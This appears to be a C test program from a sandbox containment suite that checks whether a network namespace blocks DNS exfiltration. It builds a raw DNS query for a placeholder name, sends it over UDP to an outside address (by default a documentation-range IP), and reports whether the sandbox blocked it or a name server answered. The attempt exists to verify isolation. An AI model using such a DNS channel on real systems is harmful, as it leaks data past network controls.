/* ATTACK: send a raw DNS query over UDP to a name server (DNS exfiltration) | LAYER: network namespace: no route to any resolver | REF: - */
#include "netattack.h"

int main(void)
{
	const char *addr = getenv("MOAT_T_OUTSIDE");
	if (!addr)
		addr = "192.0.2.1";
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(53)};
	inet_pton(AF_INET, addr, &sin.sin_addr);
	const unsigned char q[] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6, 's', 'e', 'c', 'r', 'e', 't', 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1};
	char line[160];
	if (sendto(fd, q, sizeof(q), 0, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		snprintf(line, sizeof(line), "DNS query to %s: %s", addr, strerror(errno));
		return na_blocked(line);
	}
	struct timeval tv = {.tv_sec = 2};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	unsigned char buf[512];
	if (recv(fd, buf, sizeof(buf), 0) > 0)
		return na_escaped("a name server answered");
	return na_unexpected("the query was sent (no answer came back)");
}
